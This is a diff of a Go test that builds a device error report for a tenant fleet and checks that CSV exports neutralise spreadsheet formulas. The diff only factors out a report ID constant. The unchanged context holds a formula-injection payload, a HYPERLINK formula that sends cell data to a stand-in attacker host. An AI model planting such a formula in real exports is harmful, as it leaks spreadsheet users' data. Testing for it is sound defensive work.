@@ -24,6 +24,7 @@ const (
 	// formulaPayload is a spreadsheet formula a device wrote: the CSV download must carry
 	// it neutralised, as text.
 	formulaPayload = `=HYPERLINK("https://evil.example/?leak="&A1,"Click me")`
+	formulaID      = "00000000-0000-4000-8000-000000000099"
 )
 
 // world is tenant A (the platform's Contoso) with a fleet whose texts hold the payloads,
@@ -86,7 +87,7 @@ func newWorld(t *testing.T, p *testenv.Platform) *world {
 				return err
 			}
 		}
-		formula := errreport.Report{ID: "00000000-0000-4000-8000-000000000099", Kind: errreport.AppCrash, At: now,
+		formula := errreport.Report{ID: formulaID, Kind: errreport.AppCrash, At: now,
 			ImagePath: "apps/dw100-app/1.0.0", ImageVersion: "1.0.0", Message: formulaPayload, Signal: "SIGSEGV"}
 		if err := tt.ErrorReports().Add(ctx, device.ID(w.device), formula, now.Add(-time.Hour)); err != nil {
 			return err
